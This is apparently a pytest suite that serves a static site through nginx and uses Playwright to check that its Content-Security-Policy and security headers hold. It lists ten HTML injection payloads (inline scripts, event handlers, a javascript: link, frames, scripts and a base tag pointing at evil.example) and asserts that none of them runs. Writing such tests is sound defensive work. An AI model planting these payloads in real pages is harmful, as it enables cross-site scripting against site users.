"""In a browser, by a real server: what the policy forbids does not happen, in pages and by the server's headers."""

from __future__ import annotations

import re
import shutil
import urllib.request
from collections.abc import Iterator
from html import unescape
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from candour.model.addresses import HEADERS, SECURITY_PAGE

from .kinds import EVERY
from .nginx import nginx

POLICY = re.compile(r'http-equiv="Content-Security-Policy" content="([^"]*)"')

VIOLATIONS = """window.violations = [];
document.addEventListener('securitypolicyviolation', (event) =>
  violations.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`))"""

EVIL = {
    "a script": "<script>window.ran = 'a script'</script>",
    "a script of the theme's kind": "<script id='__config'>window.ran = 'another'</script>",
    "a handler": "<img src='data:,' onerror=\"window.ran = 'a handler'\">",
    "a script from elsewhere": "<script src='https://evil.example/x.js'></script>",
    "a script as data": "<script src='data:text/javascript,window.ran=1'></script>",
    "a link that runs": "<a id='evil' href=\"javascript:window.ran = 'a link'\">x</a>",
    "a frame": "<iframe srcdoc=\"<script>top.ran = 'a frame'</script>\"></iframe>",
    "an object": "<object data='data:text/html,<script>top.ran=1</script>'></object>",
    "a style": "<style>body { background: url(https://evil.example/) }</style>",
    "another base": "<base href='https://evil.example/'>",
}


@pytest.fixture(scope="module")
def headers(wider: Path) -> str:
    """The lines for nginx, as the page of security shows them."""
    page = (wider / SECURITY_PAGE).read_text(encoding="utf-8")
    shown = [unescape(line) for line in re.findall("<code>(add_header .*)</code>", page)]
    assert len(shown) >= 5
    return "\n".join(shown)


@pytest.fixture(scope="module")
def origins(wider: Path, headers: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
    """The wider site by nginx, with those lines, and beside its pages one for each way of an attack."""
    folder = tmp_path_factory.mktemp("served")
    shutil.copytree(wider, folder / "site")
    whole = (wider / "terms/pregnancy.html").read_text(encoding="utf-8")
    for number, html in enumerate(EVIL.values()):
        (folder / f"site/terms/evil-{number}.html").write_text(whole.replace("</h1>", f"</h1>{html}", 1), "utf-8")
    with nginx(folder / "site", folder / "work", headers) as address:
        yield {"http": address, "file": f"{(folder / 'site').as_uri()}/"}


@pytest.fixture
def served(origins: dict[str, str]) -> str:
    return origins["http"]


@pytest.fixture
def watched(browser: Browser) -> Iterator[Page]:
    page = browser.new_page()
    page.add_init_script(VIOLATIONS)
    yield page
    page.close()


def test_a_server_tells_with_every_file_what_a_page_cannot(served: str) -> None:
    for path in ("index.html", "data/library.json", "assets/javascripts/candour.js"):
        with urllib.request.urlopen(served + path) as answer:  # noqa: S310  # this machine's own
            told = answer.headers
        assert told["X-Content-Type-Options"] == "nosniff", path
        assert told["Referrer-Policy"] == "no-referrer", path
        assert "frame-ancestors 'none'" in told["Content-Security-Policy"], path
        assert "geolocation=()" in told["Permissions-Policy"], path


def test_the_file_for_hosts_says_the_same(wider: Path, headers: str) -> None:
    told = dict(re.findall('add_header ([^ ]+) "(.*)" always;', headers))
    read = dict(line.strip().split(": ", 1) for line in (wider / HEADERS).read_text("utf-8").splitlines()[1:])
    assert read == told


def test_no_kind_of_page_breaks_the_policy(served: str, watched: Page) -> None:
    """By the server's headers and the page's own policy at once; from a folder, each visit holds the console to it."""
    found = {}
    for kind, path in EVERY.items():
        watched.goto(served + path)
        watched.evaluate("new Promise(done => requestIdleCallback(done, {timeout: 500}))")
        found[kind] = watched.evaluate("violations")
    assert {kind: them for kind, them in found.items() if them} == {}


@pytest.mark.parametrize("origin", ["http", "file"])
def test_what_got_into_a_page_does_not_run(origins: dict[str, str], watched: Page, origin: str) -> None:
    """As if every other guard had failed. From a folder, the page's own policy is all there is."""
    told: list[str] = []
    watched.on("console", lambda message: told.append(message.text))
    for number, way in enumerate(EVIL):
        told.clear()
        watched.goto(f"{origins[origin]}terms/evil-{number}.html", wait_until="domcontentloaded")
        if watched.locator("#evil").count():
            watched.evaluate("document.getElementById('evil').click()")
        watched.evaluate("new Promise(done => setTimeout(done, 30))")
        assert watched.evaluate("window.ran ?? null") is None, way
        assert watched.evaluate("document.baseURI") == watched.url, way
        assert any("Content Security Policy" in text for text in told), f"the browser has not even seen {way}"


def test_every_page_has_the_policy_before_all_that_it_loads(wider: Path) -> None:
    for file in sorted(wider.rglob("*.html")):
        text = file.read_text(encoding="utf-8")
        policy = POLICY.search(text)
        assert policy, file
        assert "default-src 'none'" in unescape(policy[1]), file
        assert not re.search(r"<(?:script|link|img|style)\b", text[: policy.start()]), file
        assert text.index('<meta charset="utf-8">') < policy.start() < 1024, file
